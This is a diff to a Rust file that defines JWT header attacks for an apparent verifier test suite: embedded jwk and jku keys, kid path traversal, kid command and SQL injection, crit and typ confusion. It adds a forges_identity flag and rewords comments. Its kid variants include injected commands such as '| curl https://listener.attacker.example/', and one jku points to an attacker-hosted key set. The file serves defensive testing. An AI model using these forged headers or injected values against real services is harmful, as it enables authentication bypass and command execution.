@@ -1,4 +1,4 @@
-//! Attacks by the header: it contains a key, says where one is, or sets rules of its own.
+//! Attacks by the header: it holds a key, says where to fetch one, or sets rules of its own.
 
 use super::{AttackKind, Definition, JudgedBy, attack_text};
 use crate::code::Code;
@@ -12,13 +12,14 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 11,
         key: "ik",
         expected: Code::HeaderNotAllowed,
+        forges_identity: true,
         needs: None,
         variants: &[],
         kind: AttackKind::Token {
             judged_by: JudgedBy::Demo,
             forge: |forge, _| {
                 let header = forge.original.header.with("jwk", forge.attacker_jwk());
-                forge.by_attacker(&header, "Made with the key that the header brings.")
+                forge.by_attacker(&header, "Made with the key in the header.")
             },
             naive: &naive::TRUSTS_JWK,
         },
@@ -28,6 +29,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 12,
         key: "sk",
         expected: Code::HeaderNotAllowed,
+        forges_identity: true,
         needs: None,
         variants: &[
             "https://keys.attacker.example/jwks.json",
@@ -38,7 +40,7 @@ pub(super) static ATTACKS: &[Definition] = &[
             judged_by: JudgedBy::Demo,
             forge: |forge, address| {
                 let header = forge.original.header.with("jku", quoted(address));
-                forge.by_attacker(&header, "Made with the key that would lie at the address.")
+                forge.by_attacker(&header, "Made with Mallory's key, which would be at the address.")
             },
             naive: &naive::FOLLOWS_JKU,
         },
@@ -48,6 +50,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 13,
         key: "ke",
         expected: Code::UnknownKid,
+        forges_identity: true,
         needs: Some(DemoAlgorithm::HS256),
         variants: PATHS,
         kind: EMPTY_FILE,
@@ -57,6 +60,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 13,
         key: "ke",
         expected: Code::AlgNotAllowed,
+        forges_identity: true,
         needs: Some(DemoAlgorithm::RS256),
         variants: PATHS,
         kind: EMPTY_FILE,
@@ -66,6 +70,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 14,
         key: "ki",
         expected: Code::UnknownKid,
+        forges_identity: true,
         needs: None,
         variants: &["| sleep 10", "| curl https://listener.attacker.example/"],
         kind: AttackKind::Token {
@@ -73,9 +78,9 @@ pub(super) static ATTACKS: &[Definition] = &[
             forge: |forge, command| {
                 let header = forge.original.header.with("kid", quoted(command));
                 Ok(if forge.is_mac() {
-                    forge.sign_with_hmac(&header, b"", "Made with the empty key, which such a command prints.")
+                    forge.sign_with_hmac(&header, b"", "Made with the empty key: the command prints nothing.")
                 } else {
-                    forge.stale(header.to_string(), forge.original.claims.to_string())
+                    forge.stale(header.to_string(), forge.forged_claims().to_string())
                 })
             },
             naive: &naive::RUNS_KID_AS_COMMAND,
@@ -86,6 +91,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 15,
         key: "ks",
         expected: Code::UnknownKid,
+        forges_identity: true,
         needs: Some(DemoAlgorithm::HS256),
         variants: &[],
         kind: SQL,
@@ -95,6 +101,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 15,
         key: "ks",
         expected: Code::AlgNotAllowed,
+        forges_identity: true,
         needs: Some(DemoAlgorithm::RS256),
         variants: &[],
         kind: SQL,
@@ -104,6 +111,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 16,
         key: "oa",
         expected: Code::HeaderNotAllowed,
+        forges_identity: false,
         needs: None,
         variants: &["jku", "x5u", "x5c", "jwk", "crit", "zip"],
         kind: AttackKind::Token {
@@ -117,6 +125,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 16,
         key: "oa",
         expected: Code::UnknownKid,
+        forges_identity: false,
         needs: None,
         variants: &[],
         kind: AttackKind::Token {
@@ -130,6 +139,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 31,
         key: "cr",
         expected: Code::HeaderNotAllowed,
+        forges_identity: false,
         needs: None,
         variants: &["unknown", "exp"],
         kind: AttackKind::Token {
@@ -150,6 +160,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 32,
         key: "at",
         expected: Code::WrongType,
+        forges_identity: false,
         needs: None,
         variants: TYPES,
         kind: AttackKind::Token {
@@ -163,6 +174,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 32,
         key: "at",
         expected: Code::BadSignature,
+        forges_identity: false,
         needs: None,
         variants: TYPES,
         kind: AttackKind::Token {
@@ -176,6 +188,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 32,
         key: "at",
         expected: Code::WrongType,
+        forges_identity: false,
         needs: None,
         variants: &["absent", "JWT"],
         kind: AttackKind::Token {
@@ -195,6 +208,7 @@ pub(super) static ATTACKS: &[Definition] = &[
         number: 34,
         key: "ce",
         expected: Code::HeaderNotAllowed,
+        forges_identity: true,
         needs: None,
         variants: &["x5c", "x5u"],
         kind: AttackKind::Token {
@@ -221,7 +235,7 @@ const EMPTY_FILE: AttackKind = AttackKind::Token {
     forge: |forge, path| {
         let path = if path == "no-name" { "" } else { path };
         let header: Members = forge.original.header.with("kid", quoted(path));
-        Ok(forge.sign_with_hmac(&header, b"", "Made with the empty key, which is what lies there."))
+        Ok(forge.sign_with_hmac(&header, b"", "Made with the empty key: the file is empty."))
     },
     naive: &naive::READS_KID_AS_PATH,
 };
